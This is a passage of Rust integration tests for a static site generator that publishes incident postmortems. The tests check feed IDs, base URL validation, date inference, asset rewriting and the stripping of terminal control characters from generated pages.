        .unwrap();
    assert!(
        stderr(&summary).contains("1 warning in"),
        "{}",
        stderr(&summary)
    );
    // robots.txt names a sitemap only by an absolute URL, so here it names none.
    let robots = std::fs::read_to_string(out.join("robots.txt")).unwrap();
    assert_eq!(robots, "User-agent: *\nAllow: /\n");
    // The feed's links are relative to the feed, and so right under any sub-path.
    let feed = std::fs::read_to_string(out.join("feed.xml")).unwrap();
    assert!(
        feed.contains("<link href=\"feed.xml\" rel=\"self\"/>"),
        "{feed}"
    );
    assert!(feed.contains("<link href=\"./\"/>"), "{feed}");
    assert!(feed.contains("<link href=\"incidents/INC-1/\"/>"), "{feed}");
    assert!(!feed.contains("href=\"/"), "{feed}");
}

/// The `<id>`s of a feed, its own first, then its entries' in order.
fn feed_ids(feed: &str) -> Vec<String> {
    feed.split("<id>")
        .skip(1)
        .map(|s| s[..s.find("</id>").unwrap()].to_string())
        .collect()
}

#[test]
fn a_feed_built_without_an_absolute_base_url_has_urn_uuid_ids_the_same_on_every_build_and_one_per_page(
) {
    let files = [
        (
            "content/INC-1 - Disk full.md",
            "# Disk full\n\n## Summary\n\nThe disk filled up on 2024-05-01.\n",
        ),
        (
            "content/INC-2 - Queue full.md",
            "# Queue full\n\n## Summary\n\nThe queue filled up on 2024-06-01.\n",
        ),
        ("hindsight.toml", "title = \"Ops postmortems\"\n"),
    ];
    // Two copies in two folders, built at two times: nothing of the machine, the folder or the
    // clock is in the ids.
    let (a, b) = (Site::with(&files), Site::with(&files));
    let feed = a.build_ok().page("feed.xml");
    assert_eq!(feed, b.build_ok().page("feed.xml"));
    let ids = feed_ids(&feed);
    assert_eq!(ids.len(), 3, "{feed}");
    for id in &ids {
        // An absolute IRI (RFC 4287): a name-based UUID (version 5) as a URN.
        let uuid = id
            .strip_prefix("urn:uuid:")
            .unwrap_or_else(|| panic!("{id}"));
        let uuid = uuid::Uuid::parse_str(uuid).unwrap();
        assert_eq!(uuid.get_version_num(), 5, "{id}");
        assert_eq!(uuid.urn().to_string(), *id);
    }
    let distinct: std::collections::BTreeSet<&String> = ids.iter().collect();
    assert_eq!(distinct.len(), 3, "{feed}");
    // The links stay relative to the feed.
    assert!(feed.contains("<link href=\"incidents/INC-2/\"/>"), "{feed}");
    // A path is no base for an id either: the same ids as without one.
    let o = bin()
        .args(["build", "--quiet", "--base-url", "/sub/", "--root"])
        .arg(&b.root)
        .arg("--out")
        .arg(&b.out)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(feed_ids(&b.page("feed.xml")), ids);
    // Another site (another title) has other ids for pages at the same URLs.
    write_files(
        &b.root,
        &[("hindsight.toml", "title = \"Other postmortems\"\n")],
    );
    let other = feed_ids(&b.build_ok().page("feed.xml"));
    assert_eq!(other.len(), 3);
    assert!(
        other.iter().all(|id| !ids.contains(id)),
        "{other:?} {ids:?}"
    );
}

#[test]
fn incidents_of_the_same_title_say_their_ids_in_the_page_title_and_the_feed_and_others_do_not() {
    let site = Site::with(&[
        (
            "content/INC-1 - Disk full.md",
            "# Disk full\n\n## Summary\n\nThe disk filled up on 2024-05-01.\n",
        ),
        (
            "content/INC-2 - Disk full again.md",
            "# Disk Full\n\n## Summary\n\nThe disk filled up on 2024-06-01.\n",
        ),
        (
            "content/INC-3 - Queue full.md",
            "# Queue full\n\n## Summary\n\nThe queue filled up on 2024-07-01.\n",
        ),
        ("hindsight.toml", "title = \"Ops postmortems\"\n"),
    ]);
    site.build_ok();
    // A tab, the history and bookmarks show the `<title>` alone: the same one for two
    // incidents (case aside) would not tell them apart.
    for (id, title) in [
        ("INC-1", "Disk full (INC-1)"),
        ("INC-2", "Disk Full (INC-2)"),
        ("INC-3", "Queue full"),
    ] {
        let page = site.page(&format!("incidents/{id}/index.html"));
        assert!(
            page.contains(&format!("<title>{title} · Ops postmortems</title>")),
            "{id}: {page}"
        );
        // The page shows the id above its heading: the heading keeps the title as written.
        let h1 = title.split(" (").next().unwrap();
        assert!(
            page.contains(&format!("<h1 id=\"incident-title\">{h1}</h1>")),
            "{id}: {page}"
        );
    }
    // A feed reader lists its entries by title alone too.
    let feed = site.page("feed.xml");
    for title in ["Disk full (INC-1)", "Disk Full (INC-2)", "Queue full"] {
        assert!(
            feed.contains(&format!("<title>{title}</title>")),
            "{title}: {feed}"
        );
    }
    // Lists show each id beside its title, and the export gives the title as written.
    let list = site.page("incidents/index.html");
    assert!(
        list.contains(">Disk full</a> <span class=\"id\">INC-1</span>"),
        "{list}"
    );
    assert!(!list.contains("(INC-1)"), "{list}");
    assert_eq!(site.incident("INC-1")["title"], "Disk full");
}

#[test]
fn a_feed_built_with_an_absolute_base_url_keeps_the_page_urls_as_its_ids() {
    let site = Site::fixture("basic");
    let feed = site.build_ok().page("feed.xml");
    let ids = feed_ids(&feed);
    assert_eq!(ids[0], "https://kb.example.org/pm/", "{feed}");
    assert!(
        ids.contains(&"https://kb.example.org/pm/incidents/FX-001/".to_string()),
        "{feed}"
    );
    assert!(!feed.contains("urn:"), "{feed}");
}

#[test]
fn a_build_with_an_absolute_base_url_is_not_warned_and_robots_names_the_sitemap() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    let o = build(&fixture("basic"), &out);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(!stderr(&o).contains("base_url"), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(out.join("robots.txt")).unwrap(),
        "User-agent: *\nAllow: /\nSitemap: https://kb.example.org/pm/sitemap.xml\n"
    );
    // A path is a base for links, not for the feed and sitemap: still warned.
    let o = bin()
        .args(["build", "--quiet", "--base-url", "/sub/", "--root"])
        .arg(fixture("basic"))
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("is the path `/sub/`, not a URL"),
        "{}",
        stderr(&o)
    );
    let feed = std::fs::read_to_string(out.join("feed.xml")).unwrap();
    assert!(
        feed.contains("<link href=\"/sub/feed.xml\" rel=\"self\"/>"),
        "{feed}"
    );
}

#[test]
fn a_base_url_that_is_not_an_absolute_url_is_refused_with_its_line_and_column_and_a_hint() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    small_site(&root, "title = \"x\"\nbase_url = \"not a url\"\n");
    let out = tmp.path().join("public");
    let o = build(&root, &out);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("hindsight.toml:2:12"), "{err}");
    assert!(err.contains("`not a url` is not an absolute URL"), "{err}");
    assert!(err.contains("https://example.org/postmortems/"), "{err}");
    assert!(!out.exists());
    // `check` reports it the same way.
    let (code, findings) = check_json(&root, &[]);
    assert_eq!(code, Some(1));
    let f = &findings[0];
    assert_eq!(
        (f["rule"].as_str(), f["line"].as_u64()),
        (Some("config"), Some(2))
    );
    // A host without a scheme gets the URL it probably meant.
    std::fs::write(
        root.join("hindsight.toml"),
        "base_url = \"kb.example.org/pm/\"\n",
    )
    .unwrap();
    let err = stderr(&build(&root, &out));
    assert!(
        err.contains("did you mean `https://kb.example.org/pm/`?"),
        "{err}"
    );
    // The command line is checked too: a usage error, before anything is read.
    std::fs::remove_file(root.join("hindsight.toml")).unwrap();
    for bad in ["not a url", "ftp://kb.example.org/"] {
        let o = bin()
            .args(["build", "--quiet", "--base-url", bad, "--root"])
            .arg(&root)
            .arg("--out")
            .arg(&out)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(2), "{bad}: {}", stderr(&o));
        assert!(stderr(&o).contains("https://"), "{}", stderr(&o));
        assert!(!out.exists());
    }
}

#[test]
fn check_and_serve_do_not_warn_about_a_missing_base_url() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    small_site(&root, "");
    // `check` gates content; the base URL is often given at deploy time with --base-url.
    let (_, findings) = check_json(&root, &[]);
    assert!(!serde_json::to_string(&findings)
        .unwrap()
        .contains("base_url"));
    // `serve` builds into memory with root-relative links; its site is never published.
    let report = hindsight::build(&hindsight::BuildOptions {
        root: root.clone(),
        base_url: Some("/".into()),
        in_memory: true,
        ..Default::default()
    })
    .unwrap();
    assert!(report.diagnostics.is_empty(), "{:?}", report.diagnostics);
}

#[test]
fn a_date_known_only_by_its_year_is_shown_as_the_year() {
    let site = Site::with(&[(
        "content/PM2020-003 - Disk full.md",
        "# Disk full\n\nThe timeline says 20202-01-16, a typo: no date can be read.\n",
    )]);
    site.build_ok();
    let page = site.page("incidents/PM2020-003/index.html");
    assert!(
        page.contains("<time datetime=\"2020\">2020</time>"),
        "{page}"
    );
    assert!(!page.contains("2020-01-01"), "{page}");
    // The export keeps a full date, for sorting and scripts.
    assert_eq!(exported(&site.out, "date"), ["2020-01-01"]);
}

#[test]
fn a_tag_service_or_severity_spelled_two_ways_is_shown_one_way_everywhere() {
    let post = |id: &str, sev: &str, tags: &str| {
        format!("---\nid: {id}\ntitle: Outage {id}\ndate: 2024-01-0{}\nseverity: {sev}\nservices: [{tags}]\ntags: [{tags}]\n---\n# Outage\n\nIt broke.\n", &id[2..])
    };
    let site = Site::with(&[
        ("content/a.md", &post("P-1", "sev1", "Payments")),
        ("content/b.md", &post("P-2", "SEV1", "payments")),
        ("content/c.md", &post("P-3", "Sev1", "payments, PAYMENTS")),
    ]);
    site.build_ok();
    for inc in read_json(&site.out.join("api/incidents.json"))
        .as_array()
        .unwrap()
    {
        // The scale's spelling for a severity; the most used one for a tag or service.
        assert_eq!(inc["severity"], "SEV1", "{inc}");
        assert_eq!(inc["tags"], serde_json::json!(["payments"]), "{inc}");
        assert_eq!(inc["services"], serde_json::json!(["payments"]), "{inc}");
    }
    let feed = site.page("feed.xml");
    for odd in ["sev1", "Sev1", "Payments", "PAYMENTS"] {
        assert!(
            !feed.contains(&format!("term=\"{odd}\"")),
            "{odd} in the feed"
        );
    }
    let page = site.page("incidents/P-1/index.html");
    assert!(
        !page.contains(">Payments<") && !page.contains(">sev1<"),
        "{page}"
    );
}

#[test]
fn a_day_and_month_written_without_a_year_take_the_year_of_the_file_name_when_the_weekday_agrees() {
    let site = Site::with(&[
        (
            "content/2021-outage-payments.md",
            "# Payments outage\n\nOn Tuesday 9 November the payment provider timed out.\n",
        ),
        (
            "content/postmortem_2021.md",
            "# Card declines\n\nCards were declined from Nov 9th until the evening.\n",
        ),
        // 9 November 2021 was a Tuesday, not a Monday: the year alone, as before.
        (
            "content/2021-search-down.md",
            "# Search down\n\nOn Monday 9 November search returned nothing.\n",
        ),
    ]);
    site.build_ok();
    let date_of = |id: &str| site.incident(id)["date"].as_str().unwrap().to_string();
    assert_eq!(date_of("2021-outage-payments"), "2021-11-09");
    assert_eq!(date_of("postmortem_2021"), "2021-11-09");
    assert_eq!(date_of("2021-search-down"), "2021-01-01");
    let page = site.page("incidents/2021-outage-payments/index.html");
    assert!(page.contains("<time datetime=\"2021-11-09\">"), "{page}");

    // check (which reads the dates before it forgets the text) says where each came from.
    let (_, findings) = check_json(&site.root, &[]);
    let derived = |file: &str| {
        findings
            .iter()
            .find(|f| f["rule"] == "derived" && f["file"] == file)
            .unwrap_or_else(|| panic!("no derived note for {file}: {findings:#?}"))["message"]
            .as_str()
            .unwrap()
            .to_string()
    };
    for file in [
        "content/2021-outage-payments.md",
        "content/postmortem_2021.md",
    ] {
        let message = derived(file);
        assert!(
            message.contains(
                "date 2021-11-09 from the day and month in the text and the year in the file name"
            ),
            "{message}"
        );
    }
    let message = derived("content/2021-search-down.md");
    assert!(
        message.contains("date 2021-01-01 from the year in the file name"),
        "{message}"
    );
}

#[test]
fn images_and_files_named_in_raw_html_are_copied_and_rewritten_like_markdown_ones() {
    let body = "---\nid: HTML-1\ntitle: Sized images\ndate: 2024-01-05\n---\n\
        Inline <img src=\"img/inline.png\" width=\"400\"> image.\n\n\
        <p align=\"center\">\n  <IMG\n    WIDTH=600\n    SRC='img/block.png'>\n</p>\n\n\
        <picture><source srcset=\"img/wide.png 2x, img/narrow.png 1x\">\
        <img src=\"https://example.org/x.png\"></picture>\n\n\
        See <a href=\"../runbooks/restore.pdf\">the runbook</a> and \
        <a href=\"2024-01-06-other.md#timeline\">the other one</a>.\n\n\
        <img src=\"data:image/png;base64,AAA=\"> <img src=//cdn.example.org/y.png>\n";
    let site = Site::with(&[
        ("content/postmortems/2024-01-05-sized.md", body),
        (
            "content/postmortems/2024-01-06-other.md",
            "---\nid: HTML-2\ntitle: Other\ndate: 2024-01-06\n---\n## Timeline\n\nText.\n",
        ),
        ("content/postmortems/img/inline.png", "png"),
        ("content/postmortems/img/block.png", "png"),
        ("content/postmortems/img/wide.png", "png"),
        ("content/postmortems/img/narrow.png", "png"),
        ("content/runbooks/restore.pdf", "pdf"),
    ]);
    site.build_ok();
    // Beside the page, as `![...](img/inline.png)` would be; outside its folder, under assets/.
    for file in [
        "incidents/HTML-1/img/inline.png",
        "incidents/HTML-1/img/block.png",
        "incidents/HTML-1/img/wide.png",
        "incidents/HTML-1/img/narrow.png",
        "assets/runbooks/restore.pdf",
    ] {
        assert!(site.out.join(file).is_file(), "{file} was not copied");
    }
    let page = site.page("incidents/HTML-1/index.html");
    // Written as the sanitizer writes raw HTML with attributes: names in lower case, values
    // in double quotes.
    for html in [
        "<img src=\"img/inline.png\" width=\"400\">",
        "<img width=\"600\" src=\"img/block.png\">",
        "<source srcset=\"img/wide.png 2x, img/narrow.png 1x\">",
        "<a href=\"../../assets/runbooks/restore.pdf\">",
        "<a href=\"../../incidents/HTML-2/#timeline\">",
        "<img src=\"https://example.org/x.png\">",
        "<img src=\"data:image/png;base64,AAA=\">",
        "<img src=\"//cdn.example.org/y.png\">",
    ] {
        assert!(page.contains(html), "{html} not in the page");
    }
}

#[test]
fn an_empty_file_is_published_nowhere_and_the_build_warns_naming_it() {
    let site = Site::with(&[
        ("content/own.md", &postmortem("OWN-1", "Our own")),
        ("content/2024-01-07-empty.md", ""),
        ("content/2024-01-08-blank.md", "\n  \n\t\n"),
        ("content/2024-01-09-bare.md", "---\n# to do\n---\n\n"),
        // Front matter and no text yet: a deliberate stub, still a postmortem.
        (
            "content/2024-01-10-stub.md",
            "---\nid: STUB-1\ntitle: Stub\n---\n",
        ),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    for name in ["2024-01-07-empty", "2024-01-08-blank", "2024-01-09-bare"] {
        assert!(
            err.contains(&format!("content/{name}.md")) && err.contains("empty-file"),
            "{err}"
        );
    }
    assert!(!err.contains("2024-01-10-stub"), "{err}");
    let mut ids = exported(&site.out, "id");
    ids.sort();
    assert_eq!(ids, ["OWN-1", "STUB-1"]);
    // Not a page, and not in the feed, the sitemap, the search index, a taxonomy or the export.
    let mut titles = exported(&site.out, "title");
    titles.sort();
    assert_eq!(titles, ["Our own", "Stub"]);
    for (path, bytes) in tree(&site.out) {
        let text = String::from_utf8_lossy(&bytes);
        for name in ["2024-01-07-empty", "2024-01-08-blank", "2024-01-09-bare"] {
            assert!(
                !path.contains(name) && !text.contains(name) && !text.contains(&name[..10]),
                "{path} names {name}"
            );
        }
    }
}

#[test]
fn source_links_and_image_paths_are_percent_encoded_segment_by_segment() {
    let site = Site::with(&[
        (
            "hindsight.toml",
            "repository_url = \"https://github.com/org/repo/blob/main/\"\n",
        ),
        (
            "content/PM2024-050 - C# build broke?.md",
            "# C# build broke\n\nThe graph: ![cpu](<100% CPU.png>)\n",
        ),
        (
            "content/PM2024-051 - 100% CPU & more.md",
            "# CPU at 100%\n\nIt spun.\n",
        ),
        ("content/100% CPU.png", "not really a PNG"),
    ]);
    site.build_ok();
    // Tera escapes `/` and `&` in attributes; the browser reads them back.
    let href_of = |id: &str| {
        let page = site.page(&format!("incidents/{id}/index.html"));
        page.replace("&#x2F;", "/").replace("&amp;", "&")
    };
    let a = href_of("PM2024-050");
    assert!(
        a.contains(
            "href=\"https://github.com/org/repo/blob/main/content/PM2024-050%20-%20C%23%20build%20broke%3F.md\""
        ),
        "{a}"
    );
    assert!(a.contains("src=\"100%25%20CPU.png\""), "{a}");
    assert!(site.out.join("incidents/PM2024-050/100% CPU.png").is_file());
    let b = href_of("PM2024-051");
    assert!(
        b.contains(
            "href=\"https://github.com/org/repo/blob/main/content/PM2024-051%20-%20100%25%20CPU%20&%20more.md\""
        ),
        "{b}"
    );
}

#[test]
fn control_characters_pasted_from_a_terminal_never_reach_a_page_the_feed_or_the_sitemap() {
    let site = Site::with(&[
        ("hindsight.toml", "base_url = \"https://example.org/\"\n"),
        (
            "content/PM2024-001 - Deploys failed.md",
            "---\ntitle: \"\x1b[31mERROR\x1b[0m on every deploy\"\ndate: 2024-03-02\n\
                 summary: The log rang the bell\x07 and said \x1b[1;31mFAILED\x1b[0m.\n\
                 tags: [\"ci\x01\"]\n---\n\
                 # Deploys failed\n\n## Summary\n\nThe log said \x1b[31mERROR\x1b[0m\x0b on each \
                 run.\n\n## Learnings\n\n- Logs \x1b[33mpasted\x1b[0m with colours hide the \
                 words.\n\n```\n\x1b[32mok\x1b[0m\x08\n```\n",
        ),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("control-character"),
        "build warns too: {}",
        stderr(&o)
    );
    let forbidden = |c: char| matches!(c, '\0'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{7f}'..='\u{9f}');
    let mut text_files = 0;
    for (path, bytes) in tree(&site.out) {
        if !(path.ends_with(".html")
            || path.ends_with(".xml")
            || path.ends_with(".json")
            || path.ends_with(".txt"))
        {
            continue;
        }
        text_files += 1;
        let text = String::from_utf8(bytes).unwrap();
        assert!(!text.chars().any(forbidden), "{path}: {text}");
        // No escape sequence is left half.
        for gone in ["[31m", "[0m", "[1;31m"] {
            assert!(!text.contains(gone), "{path} holds {gone}: {text}");
        }
        // Nor in JSON as escapes (`\u001b`).
        if path.ends_with(".json") {
            fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
                match v {
                    serde_json::Value::String(s) => out.push(s.clone()),
                    serde_json::Value::Array(a) => a.iter().for_each(|v| strings(v, out)),
                    serde_json::Value::Object(o) => o.iter().for_each(|(k, v)| {
                        out.push(k.clone());
                        strings(v, out);
                    }),
                    _ => {}
                }
            }
            let mut all = Vec::new();
            strings(&serde_json::from_str(&text).unwrap(), &mut all);
            for s in all {
                assert!(!s.chars().any(forbidden), "{path}: {s:?}");
            }
        }
    }
    assert!(text_files > 10);
    let feed = site.page("feed.xml");
    assert!(
        feed.contains("<title>ERROR on every deploy</title>"),
        "{feed}"
    );
    assert!(
        feed.contains("<summary>The log rang the bell and said FAILED.</summary>"),
        "{feed}"
    );
    let page = site.page("incidents/PM2024-001/index.html");
    assert!(page.contains("The log said ERROR on each run."), "{page}");
    assert!(page.contains("Logs pasted with colours"), "{page}");
}

#[test]
fn recordings_tracks_and_embedded_pages_in_raw_html_are_copied_and_rewritten_like_images() {
    let body = "---\nid: MEDIA-1\ntitle: Recorded\ndate: 2024-01-05\n---\n\
        <video src=\"rec/failover.mp4\" poster=\"rec/poster.png\" controls></video>\n\n\
        <video controls>\n  <source src=\"rec/failover.webm\" type=\"video/webm\">\n  \
        <track src=\"rec/captions.vtt\" kind=\"captions\">\n</video>\n\n\
        Listen: <audio src=\"../calls/bridge.ogg\" controls></audio>\n\n\
        <iframe src=\"graphs/dashboard.html\" width=\"800\"></iframe>\n\n\
        <object data=\"graphs/flame.svg\"></object> <embed src=\"graphs/trace.pdf\">\n\n\
        <video src=\"https://example.org/remote.mp4\"></video>\n";
    let site = Site::with(&[
        ("content/postmortems/2024-01-05-recorded.md", body),
        ("content/postmortems/rec/failover.mp4", "mp4"),
        ("content/postmortems/rec/poster.png", "png"),
        ("content/postmortems/rec/failover.webm", "webm"),
        ("content/postmortems/rec/captions.vtt", "WEBVTT"),
        ("content/calls/bridge.ogg", "ogg"),
        ("content/postmortems/graphs/dashboard.html", "<p>graphs</p>"),
        ("content/postmortems/graphs/flame.svg", "<svg/>"),
        ("content/postmortems/graphs/trace.pdf", "pdf"),
    ]);
    site.build_ok();
    for file in [
        "incidents/MEDIA-1/rec/failover.mp4",
        "incidents/MEDIA-1/rec/poster.png",
        "incidents/MEDIA-1/rec/failover.webm",
        "incidents/MEDIA-1/rec/captions.vtt",
        "assets/calls/bridge.ogg",
        "incidents/MEDIA-1/graphs/dashboard.html",
        "incidents/MEDIA-1/graphs/flame.svg",
        "incidents/MEDIA-1/graphs/trace.pdf",
    ] {
        assert!(site.out.join(file).is_file(), "{file} was not copied");
    }
    let page = site.page("incidents/MEDIA-1/index.html");
    // Written as the sanitizer writes raw HTML with attributes (`controls=""`).
    for html in [
        "<video src=\"rec/failover.mp4\" poster=\"rec/poster.png\" controls=\"\">",
        "<source src=\"rec/failover.webm\" type=\"video/webm\">",
        "<track src=\"rec/captions.vtt\" kind=\"captions\">",
        "<audio src=\"../../assets/calls/bridge.ogg\" controls=\"\">",
        "<iframe src=\"graphs/dashboard.html\" width=\"800\">",
        "<object data=\"graphs/flame.svg\">",
        "<embed src=\"graphs/trace.pdf\">",
        "<video src=\"https://example.org/remote.mp4\">",
    ] {
        assert!(page.contains(html), "{html} not in the page:\n{page}");
    }
}

#[test]
fn an_empty_learning_file_is_no_learning_and_a_citation_of_it_is_an_unknown_learning() {
    let cites = |id: &str| {
        format!(
            "---\nid: CITE-1\ntitle: Cites\ndate: 2024-01-02\nlearnings:\n  - id: {id}\n    \
             text: Written down nowhere.\n  - id: stub\n    text: Written down later.\n---\n\
             # Cites\n\n## Summary\n\nIt broke.\n"
        )
    };
    let site = Site::with(&[
        ("content/cites.md", &cites("empty")),
        ("content/learnings/empty.md", ""),
        ("content/learnings/blank.md", " \n\t\n"),
        // Front matter and no text yet: a deliberate stub, still a learning.
        ("content/learnings/stub.md", "---\ntitle: Stub\n---\n"),
    ]);
    let (_, findings) = check_json(&site.root, &[]);
    let rules = |file: &str| -> Vec<(&str, u64)> {
        findings
            .iter()
            .filter(|f| f["file"] == file)
            .map(|f| (f["rule"].as_str().unwrap(), f["line"].as_u64().unwrap()))
            .collect()
    };
    assert_eq!(rules("content/learnings/empty.md"), [("empty-file", 1)]);
    assert_eq!(rules("content/learnings/blank.md"), [("empty-file", 1)]);
    assert!(
        rules("content/cites.md").contains(&("unknown-learning", 6)),
        "{findings:#?}"
    );
    // The build refuses a citation of a learning that is not there, as for any unknown id.
    let o = site.build();
    let err = stderr(&o);
    assert!(!o.status.success(), "{err}");
    assert!(err.contains("unknown canonical learning `empty`"), "{err}");
    for name in ["empty", "blank"] {
        assert!(
            err.contains(&format!("content/learnings/{name}.md"))
                && err.contains("so it is not a canonical learning"),
            "{err}"
        );
    }
    // Cited by no one, an empty learning has no page; a stub has one.
    write_files(&site.root, &[("content/cites.md", &cites("stub"))]);
    site.build_ok();
    for name in ["empty", "blank"] {
        assert!(!site.out.join(format!("learnings/{name}")).exists());
    }
    assert!(site.out.join("learnings/stub/index.html").is_file());
    let learnings = site.page("learnings/index.html");
    assert!(!learnings.contains("learnings/empty/"), "{learnings}");
}

#[test]
fn control_characters_written_as_yaml_escapes_in_front_matter_never_reach_the_site() {
    let site = Site::with(&[
        ("hindsight.toml", "base_url = \"https://example.org/\"\n"),
        (
            "content/PM2024-002 - Escapes.md",
            "---\ntitle: \"Outage \\e[31mred\\e[0m alert\"\ndate: 2024-03-02\n\
                 summary: \"The pager rang\\x07 twice\"\n\
                 tags: [\"ci\\u0001\", db]\n\
                 learnings:\n  - text: \"Colours \\x1b[33mhide\\x1b[0m words\"\n\
                 action_items:\n  - text: \"Strip\\x1b[0m colours\"\n    owner: \"ops\\x7f\"\n---\n\
                 # Escapes\n\n## Summary\n\nText.\n",
        ),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    let forbidden = |c: char| matches!(c, '\0'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{7f}'..='\u{9f}');
    for (path, bytes) in tree(&site.out) {
        let Ok(text) = String::from_utf8(bytes) else {
            continue;
        };
        assert!(!text.chars().any(forbidden), "{path}: {text}");
        for gone in [
            "\\u001b", "\\u001B", "\\u0007", "\\u0001", "\\u007f", "[31m", "[0m",
        ] {
            assert!(!text.contains(gone), "{path} holds {gone}: {text}");
        }
    }
    let api = read_json(&site.out.join("api/incidents.json"));
    let text = api.to_string();
    for kept in ["Outage red alert", "The pager rang twice", "\"ci\""] {
        assert!(text.contains(kept), "{kept} not in {text}");
    }
    let feed = site.page("feed.xml");
    assert!(feed.contains("<title>Outage red alert</title>"), "{feed}");
    let page = site.page("incidents/PM2024-002/index.html");
    assert!(page.contains("Colours hide words"), "{page}");
    assert!(stderr(&o).contains("control-character"), "{}", stderr(&o));
}

#[test]
fn an_absolute_content_dir_puts_no_machine_path_in_the_site_or_the_findings() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("kb");
    let content = root.join("content");
    let config = format!(
        "content_dir = {:?}\nrepository_url = \"https://github.com/o/r/blob/main\"\n",
        content.to_str().unwrap()
    );
    write_files(
        &root,
        &[
            ("hindsight.toml", &config),
            ("content/a.md", "# Disk full\n\nThe disk filled up.\n"),
        ],
    );
    // Run from the root, as `hindsight build` usually is: `--root .`.
    let run = |root: &Path, args: &[&str]| {
        let o = bin().current_dir(root).args(args).output().unwrap();
        assert!(o.status.code().is_some_and(|c| c < 2), "{}", stderr(&o));
        o
    };
    let build_here = |root: &Path, out: &Path| {
        let out = out.to_str().unwrap();
        let o = run(root, &["build", "--quiet", "--root", ".", "--out", out]);
        assert!(o.status.success(), "{}", stderr(&o));
    };
    // Inside the root: paths from the root, as with `content_dir = "content"`.
    let out = tmp.path().join("public");
    build_here(&root, &out);
    assert_eq!(exported(&out, "source"), ["content/a.md"]);
    let page = std::fs::read_to_string(out.join("incidents/a/index.html"))
        .unwrap()
        .replace("&#x2F;", "/");
    assert!(
        page.contains("href=\"https://github.com/o/r/blob/main/content/a.md\""),
        "{page}"
    );
    let o = run(&root, &["check", "--root", ".", "--format", "json"]);
    let findings: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
    assert!(!findings.is_empty());
    assert!(
        findings.iter().all(|f| f["file"] == "content/a.md"),
        "{findings:#?}"
    );
    // Outside the root: paths from the content folder, and no link into the repository.
    let other = tmp.path().join("other");
    write_files(&other, &[("hindsight.toml", &config)]);
    let out = tmp.path().join("public-other");
    build_here(&other, &out);
    assert_eq!(exported(&out, "source"), ["a.md"]);
    let machine = tmp.path().to_str().unwrap();
    for (path, bytes) in tree(&out) {
        let text = String::from_utf8_lossy(&bytes);
        assert!(!text.contains(machine), "{path} names {machine}");
        assert!(
            !text.contains("blob/main"),
            "{path} links into the repository"
        );
    }
}

#[test]
fn without_hindsight_toml_the_base_url_warning_names_no_file() {
    let tmp = tempfile::tempdir().unwrap();
    write_files(
        tmp.path(),
        &[("content/a.md", "# Disk full\n\nThe disk filled up.\n")],
    );
    let o = bin()
        .args(["build", "--root"])
        .arg(tmp.path())
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("`base_url` is not set"), "{err}");
    assert!(!err.contains("hindsight.toml:"), "{err}");
    assert!(!err.contains(":1:1"), "{err}");
}

#[test]
fn links_written_for_githubs_heading_anchors_lead_to_the_headings_in_the_site() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build_ok(&fixture("github-anchors"), &out);
    let page =
        |id: &str| std::fs::read_to_string(out.join(format!("incidents/{id}/index.html"))).unwrap();
    let first = page("PM2024-101");
    // The headings keep the ids Hindsight gives them.
    for id in [
        "fire-fire",
        "ri-ben-yu-nojian-chu-si",
        "cafe-creme",
        "step-2-rollback",
        "what-went-wrong-and-why",
        "cafe",
        "cafe-1",
        "q-a-kubectl-helm",
    ] {
        assert!(
            first.contains(&format!("<h2 id=\"{id}\">")),
            "{id}: {first}"
        );
    }
    // Each link to GitHub's anchor (emoji, CJK as written and percent-encoded, accents,
    // an en dash, punctuation, a repeated heading, raw HTML) leads to the heading's id.
    for (text, id) in [
        ("fire", "fire-fire"),
        ("Japanese notes", "ri-ben-yu-nojian-chu-si"),
        ("again, encoded", "ri-ben-yu-nojian-chu-si"),
        ("café", "cafe-creme"),
        ("rollback", "step-2-rollback"),
        ("Q&amp;A", "q-a-kubectl-helm"),
        ("second café", "cafe-1"),
        ("went wrong", "what-went-wrong-and-why"),
        ("raw HTML link", "fire-fire"),
    ] {
        assert!(
            first.contains(&format!("<a href=\"#{id}\">{text}</a>")),
            "{text}: {first}"
        );
    }
    // A fragment that is no anchor at all is left as written.
    assert!(first.contains("<a href=\"#no-such-heading\">really wrong</a>"));
    assert!(!first.contains("href=\"#-fire\"") && !first.contains("%E6%97%A5"));
    // Links from another postmortem are led too.
    let second = page("PM2024-102");
    for (text, id) in [
        ("before", "fire-fire"),
        ("Japanese notes", "ri-ben-yu-nojian-chu-si"),
        ("rollback", "step-2-rollback"),
        ("water", "-water"),
        // A setext heading of two lines, whose line break GitHub drops from the anchor.
        ("smoke", "fire-smoke-on-the-second-floor"),
    ] {
        assert!(
            second.contains(&format!(
                "<a href=\"../../incidents/PM2024-101/#{id}\">{text}</a>"
            )),
            "{text}: {second}"
        );
    }
}

#[test]
fn control_characters_written_as_character_references_in_the_body_never_reach_the_site() {
    let site = Site::with(&[
        ("hindsight.toml", "base_url = \"https://example.org/\"\n"),
        (
            "content/PM2024-003 - References.md",
            "---\ndate: 2024-03-02\n---\n# References\n\n\
                 The log said &#x1b;[31mERROR&#x1b;[0m and rang&#7; twice&#x85;, \
